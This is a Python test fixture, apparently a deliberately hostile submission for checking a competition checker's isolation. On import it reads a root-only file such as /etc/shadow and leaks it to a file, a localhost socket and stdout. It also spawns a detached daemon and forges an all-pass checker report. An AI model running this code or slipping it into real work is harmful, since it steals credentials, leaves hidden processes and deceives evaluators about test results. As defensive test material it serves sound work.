"""Hostile on purpose, against the organizer who checks it: no contract function at all, and at
import it

- reads a file only root may read (the path in $SEP_CHECKER_SECRET; a real attack reads a CURVE
  secret key or /etc/shadow) and leaks what it read: into a file ($SEP_CHECKER_LEAK), to a
  listener on 127.0.0.1 ($SEP_CHECKER_PORT), and on stdout;
- leaves a detached process behind (forked twice, in a session of its own), whose command line
  carries $SEP_CHECKER_MARKER;
- writes a checker report saying every check passed into every file descriptor it holds, and
  exits 0 (a checker that trusts its child's word prints that report).
"""

import contextlib
import json
import os
import socket
import sys
import time

_secret = os.environ.get("SEP_CHECKER_SECRET", "/etc/shadow")
try:
    with open(_secret, "rb") as _file:
        _stolen = _file.read()
except OSError as _exc:
    _stolen = b""
    _problem = repr(_exc)

if _stolen:
    _leak = os.environ.get("SEP_CHECKER_LEAK")
    if _leak:
        with contextlib.suppress(OSError), open(_leak, "wb") as _file:
            _file.write(_stolen)
    print("stolen:", _stolen.decode(errors="replace"), flush=True)

_port = os.environ.get("SEP_CHECKER_PORT")
if _port:
    try:
        with socket.create_connection(("127.0.0.1", int(_port)), timeout=2) as _sock:
            _sock.sendall(b"connected " + _stolen)
    except OSError:
        pass

_marker = os.environ.get("SEP_CHECKER_MARKER", "checker-organizer-attack")
if os.fork() == 0:  # a daemon: forked twice, in a session of its own, never waited for
    os.setsid()
    if os.fork() == 0:
        os.execv(
            sys.executable,
            [sys.executable, "-c", "import time\nwhile True: time.sleep(1)", _marker],
        )
    os._exit(0)
time.sleep(0.2)

_names = [
    "candidate",
    "import",
    "functions",
    "agent_class",
    "optional_functions",
    "policy",
    "agent_init",
    "agent_methods",
    "spaces",
    "hooks",
    "observation",
    "action_mask",
    "policy_step",
    "legal_actions",
    "deploy",
    "time",
    "output",
]
_report = json.dumps(
    {
        "model_id": "checker_organizer_attack",
        "candidates_path": os.environ.get("SEP_CHECKER_CANDIDATES", "candidates.json"),
        "results": [
            {"name": name, "status": "pass", "message": "ok", "fix": ""} for name in _names
        ],
        "notes": [],
        "battles": [],
    }
).encode()
for _fd in range(3, 1024):
    with contextlib.suppress(OSError):
        os.write(_fd, _report)
os.write(1, _report)
os._exit(0)
